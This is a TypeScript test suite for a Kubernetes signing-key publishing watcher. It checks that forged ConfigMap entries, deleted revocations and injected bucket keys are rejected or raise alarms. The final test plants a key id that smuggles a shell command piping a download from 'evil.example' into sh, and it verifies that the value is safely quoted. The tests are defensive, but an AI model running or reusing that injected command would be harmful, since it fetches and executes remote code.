import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { type SigningKey, sharedSigningKey } from '../../../sandbox/kubernetes/tokens/signing-keys.ts'
import { digestOf } from '../../../src/publish/key-state.ts'
import { startTestWatch, type TestWatch } from './test-watch.ts'

const reasons = ({ status }: Awaited<ReturnType<TestWatch['runRound']>>) => status.alarms.map(({ code }) => code)
const sorted = (...keys: { kid: string }[]) => keys.map(({ kid }) => kid).toSorted()

suite('a client that may write the ConfigMap', () => {
  const forge = (watch: TestWatch, entries: Record<string, string>) => {
    const keyState = watch.sandbox.cluster.store.read('ConfigMap', 'pullpass-system', 'pullpass-issuer')
    if (keyState) watch.sandbox.cluster.store.remove(keyState)
    const metadata = { namespace: 'pullpass-system', name: 'pullpass-issuer' }
    watch.sandbox.cluster.seed({ apiVersion: 'v1', kind: 'ConfigMap', metadata, data: entries })
  }
  const jwkOf = ({ publicKey, kid }: SigningKey) => ({ ...publicKey.export({ format: 'jwk' }), kid, alg: 'RS256' })
  const entryOf = (key: SigningKey) => ({
    [`key.${digestOf(key.kid)}`]: JSON.stringify({ key: jwkOf(key), lastSeenAt: '2999-01-01T00:00:00Z' }),
  })

  test('cannot have its own key published, before the first round or after it', async (t) => {
    const watch = await startTestWatch(t)
    const attacker = await sharedSigningKey('attacker')
    forge(watch, entryOf(attacker))
    const state = await watch.runRound()
    const own = sorted(watch.sandbox.cluster.keys.current)
    assert.deepEqual(watch.published(), own)
    assert.deepEqual(reasons(state), ['RECORDED_KEY_UNKNOWN'])
    assert.match(
      state.status.alarms[0]?.seen ?? '',
      new RegExp(`^key "${attacker.kid}" is recorded in the ConfigMap, but neither`),
    )
    forge(watch, { ...watch.keyEntries(), ...entryOf(await sharedSigningKey('another')) })
    await watch.runRound(3)
    assert.deepEqual(watch.published(), own)
  })

  test('takes no revocation back while the watch runs, though the leaked key is served: an alarm is raised, and it is written again', async (t) => {
    const watch = await startTestWatch(t)
    const { keys } = watch.sandbox.cluster
    const leaked = keys.current
    keys.signWith(await keys.add())
    await watch.runRound()
    await watch.revoke(leaked.kid)
    await watch.runRound()
    const before = watch.keyEntries()
    const [name = ''] = Object.keys(before).filter((one) => one.startsWith('revoked.'))
    const removals = {
      absent: {},
      damaged: { [name]: '{}' },
      renamed: { [name]: JSON.stringify({ kid: leaked.kid, key: jwkOf(await sharedSigningKey('another')) }) },
    }
    for (const [what, entries] of Object.entries(removals)) {
      forge(watch, { ...Object.fromEntries(Object.entries(before).filter(([one]) => one !== name)), ...entries })
      const state = await watch.runRound()
      assert.deepEqual(reasons(state), ['REVOCATION_REMOVED'], what)
      assert.equal(watch.keyEntries()[name], before[name], what)
      await watch.runRound(3)
      assert.deepEqual(watch.published(), sorted(keys.current), what)
    }
    assert.match(
      watch.logged.join('\n'),
      new RegExp(`REVOCATION_REMOVED the revocation of key "${leaked.kid}" was removed from the ConfigMap`),
    )
    watch.sandbox.clock.advance('1 h')
    assert.deepEqual(reasons(await watch.runRound()), [])
  })

  test('nor by deleting it whole', async (t) => {
    const watch = await startTestWatch(t)
    const { keys, store } = watch.sandbox.cluster
    const leaked = keys.current
    keys.signWith(await keys.add())
    await watch.runRound()
    await watch.revoke(leaked.kid)
    await watch.runRound()
    const keyState = store.read('ConfigMap', 'pullpass-system', 'pullpass-issuer')
    assert.ok(keyState)
    store.remove(keyState)
    assert.deepEqual(reasons(await watch.runRound()), ['REVOCATION_REMOVED'])
    watch.restart()
    await watch.runRound()
    assert.deepEqual(watch.published(), sorted(keys.current))
  })

  test('fills no key state with keys that replace each other', async (t) => {
    const watch = await startTestWatch(t)
    await watch.runRound()
    const own = watch.keyEntries()
    for (const name of ['another', 'forged', 'attacker']) {
      forge(watch, { ...own, ...entryOf(await sharedSigningKey(name)) })
      await watch.runRound()
    }
    assert.equal((await watch.runRound()).keyState?.keys.length, 2)
    forge(watch, {})
    assert.equal((await watch.runRound()).keyState?.keys.length, 1)
    assert.deepEqual(Object.keys(watch.keyEntries()), Object.keys(own))
  })

  test('has few Events written of many keys, and other alarms are still reported', async (t) => {
    const watch = await startTestWatch(t)
    const forged = await sharedSigningKey('forged')
    const entries = Array.from({ length: 50 }, (_, at) => entryOf({ ...forged, kid: `forged-${at}` }))
    forge(watch, Object.fromEntries(entries.flatMap(Object.entries<string>)))
    watch.sandbox.cluster.keys.signWith(await sharedSigningKey('another'))
    const { status } = await watch.runRound()
    assert.equal(status.alarms.length, 51)
    const sentence = 'warn the publication of the issuer needs attention '
    const codes = watch.logged.flatMap((line) => (line.startsWith(sentence) ? line.split(' ')[8] : []))
    assert.deepEqual(codes, [...Array.from({ length: 5 }, () => 'RECORDED_KEY_UNKNOWN'), 'KEY_UNPUBLISHED'])
  })

  test('keeps no key public by a sight in the future: it is put right', async (t) => {
    const watch = await startTestWatch(t)
    const { keys } = watch.sandbox.cluster
    const old = await watch.swapKey()
    forge(watch, { ...watch.keyEntries(), ...entryOf(old) })
    await watch.runRound(5)
    const { lastSeenAt }: { lastSeenAt: string } = JSON.parse(watch.keyEntries()[`key.${digestOf(old.kid)}`] ?? '')
    assert.ok(new Date(lastSeenAt) <= watch.context.now(), lastSeenAt)
    watch.sandbox.clock.advance('2 d')
    await watch.runRound()
    assert.deepEqual(watch.published(), sorted(keys.current))
  })

  test('brings no revoked key back that is served no more', async (t) => {
    const watch = await startTestWatch(t)
    const { keys } = watch.sandbox.cluster
    const leaked = await watch.swapKey()
    forge(watch, { ...watch.keyEntries(), [`revoked.${digestOf(leaked.kid)}`]: '{}' })
    await watch.runRound()
    assert.deepEqual(watch.published(), sorted(keys.current))
    const unrevoked = Object.entries(watch.keyEntries()).filter(([name]) => !name.startsWith('revoked.'))
    forge(watch, { ...Object.fromEntries(unrevoked), ...entryOf(leaked) })
    watch.restart()
    await watch.runRound(3)
    assert.deepEqual(watch.published(), sorted(keys.current))
  })
})

suite('a client that may write the bucket', () => {
  test('a public key whose name is a command is one word in the command that revokes it', async (t) => {
    const watch = await startTestWatch(t)
    await watch.runRound()
    const { publicKey } = await sharedSigningKey('another')
    const kid = "x; curl evil.example|sh; '$(id)'\n"
    const object = watch.sandbox.gcp.store.find('example-cluster', 'openid/v1/jwks')
    const { keys }: { keys: object[] } = JSON.parse(object?.bytes.toString() ?? '')
    watch.sandbox.gcp.store.put('example-cluster', 'openid/v1/jwks', {
      contentType: 'application/jwk-set+json',
      body: JSON.stringify({ keys: [...keys, { ...publicKey.export({ format: 'jwk' }), kid, alg: 'RS256' }] }),
    })
    await watch.runRound(3)
    const line = watch.logged.find((one) => one.includes('PUBLISHED_KEY_UNKNOWN')) ?? ''
    assert.ok(line.includes(`revoke --to "\${TARGET:?}" -- 'x; curl evil.example|sh; '\\''$(id)'\\''\n'`), line)
  })
})
